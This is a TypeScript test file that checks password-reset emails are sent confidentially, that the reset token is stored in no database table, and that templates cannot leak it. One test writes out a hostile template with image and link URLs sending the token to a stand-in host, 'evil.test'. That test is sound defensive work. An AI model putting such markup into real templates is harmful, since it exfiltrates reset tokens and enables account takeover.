import { randomUUID } from 'node:crypto';
import { expect, test } from 'vitest';
import { identityServer } from '#identity/server';
import { systemContext } from '#kernel/server';
import { asSuperuser, eventually, testDatabase, testServices } from '#kernel/testing';
import { aMailServer } from '../testing/a-mail-server.ts';
import { aTenant } from '../testing/a-tenant.ts';
import { correspondenceServer } from './index.ts';

const smtp = await aMailServer();
const url = await testDatabase();
const services = testServices(url, {
  modules: [{ subscriptions: identityServer.subscriptions ?? [] }, correspondenceServer],
  env: { SMTP_URL: smtp.url },
});
await services.jobs.start(services);
const tenantId = await aTenant(services.hostDb);
const context = systemContext(tenantId);

async function aUser(): Promise<{ id: string; email: string }> {
  const id = randomUUID();
  const email = `anna-${id}@law.test`;
  await services.db.batch(context, [
    {
      text: `insert into users (tenant_id, id, user_name, email, first_name, last_name)
      values ($1, $2, $3, $3, 'Anna', 'Berg')`,
      values: [tenantId, id, email],
    },
  ]);
  return { id, email };
}

const request = (purpose: string, userId: string) =>
  services.db.transaction(context, (tx) =>
    services.jobs.emit(tx, [{ type: 'PasswordLinkRequested', userId, purpose }]),
  );
const tracked = async (userId: string) => {
  const text = `select e.*, b.body_text from emails_tracking e
    left join email_bodies b on b.email_id = e.id where e.object_id = $1`;
  const [result] = await services.db.batch(context, [{ text, values: [userId] }]);
  return result?.rows[0];
};
const sent = (userId: string) =>
  eventually(
    () => tracked(userId),
    (row) => row?.['status'] === 'sent',
  );

/** As the mail program shows it: the lines of quoted-printable put together again. */
const wordsTo = (address: string): string =>
  smtp.received
    .filter(({ to }) => to.includes(address))
    .map(({ source }) => source.replace(/=\r?\n/g, '').replaceAll('=3D', '='))
    .join('\n');

test.each([
  ['forgotten', 'PasswordForgotten'],
  ['reset', 'PasswordReset'],
  ['welcome', 'AccountOffer'],
  ['change', 'PasswordChangeNeeded'],
])('[G-003] a password link is mailed, confidential, for: %s', async (purpose, template) => {
  const { id, email } = await aUser();
  await request(purpose, id);

  expect(await sent(id)).toMatchObject({
    destination: email,
    is_confidential: true,
    from_module: 'users',
    template_key: template,
    body_text: null,
  });
  expect(wordsTo(email)).toMatch(/\/account\/set-password\?token=[0-9a-f]{32}[\w-]{43}/);
  expect(wordsTo(email)).toContain('Dear Anna,');
});

/** Raises when any row of any table holds the text. */
const refuseIfStored = (text: string) => `do $$
  declare place record; found boolean;
  begin
    for place in select schemaname, tablename from pg_tables where schemaname in ('public', 'pgboss')
    loop
      execute format('select exists (select from %I.%I t where t::text like %L)',
        place.schemaname, place.tablename, '%${text}%') into found;
      if found then raise exception 'stored in %', place.tablename; end if;
    end loop;
  end $$`;

test('[D23] the link is in no event, no job, no mail that is tracked: in no table at all', async () => {
  const { id, email } = await aUser();
  await request('reset', id);
  await sent(id);
  const secret = /token=[0-9a-f]{32}([\w-]{43})/.exec(wordsTo(email))?.[1] ?? '';
  expect(secret).toHaveLength(43);

  await expect(
    asSuperuser(url, refuseIfStored(secret.replaceAll('_', '\\_'))),
  ).resolves.toBeUndefined();
  await expect(asSuperuser(url, refuseIfStored(email))).rejects.toThrow('stored in');
});

test('[D23] whoever writes the template gets the link neither in the tracking nor sent elsewhere', async () => {
  const { id, email } = await aUser();
  const hostile = `<p><a href="{{ link }}">{{ link }}</a></p><img src="https://evil.test/?a={{ link }}">
    <a href="https://evil.test/?b={{ link | upcase }}">b</a> https://evil.test/?c={{ link }}`;
  await services.db.batch(context, [
    {
      text: `insert into mail_templates (tenant_id, id, name, label, category, kind, subject,
          template_content, is_edited)
        values ($1, $2, 'PasswordReset', 'Reset', 'account', 'mail', 'Hello {{ link }}', $3, true)`,
      values: [tenantId, randomUUID(), hostile],
    },
  ]);
  await request('reset', id);

  expect(await sent(id)).toMatchObject({ subject: 'Hello', body_text: null });
  const secret = /token=[0-9a-f]{32}([\w-]{43})/.exec(wordsTo(email))?.[1] ?? '';
  expect(secret).toHaveLength(43);
  expect(wordsTo(email)).toMatch(/href="[^"]+\/account\/set-password\?token=/);
  expect(wordsTo(email)).toContain('evil.test');
  expect(wordsTo(email)).not.toMatch(/evil\.test[^\s"]*token/);
  await expect(
    asSuperuser(url, refuseIfStored(secret.replaceAll('_', '\\_'))),
  ).resolves.toBeUndefined();
});

test('nothing is sent for a user who is gone', async () => {
  const { id } = await aUser();
  await request('forgotten', randomUUID());
  await request('forgotten', id);
  await sent(id);

  const text = "select count(*) from emails_tracking where template_key = 'PasswordForgotten'";
  const [found] = await services.db.batch(context, [{ text }]);
  expect(Number(found?.rows[0]?.['count'])).toBe(2);
});
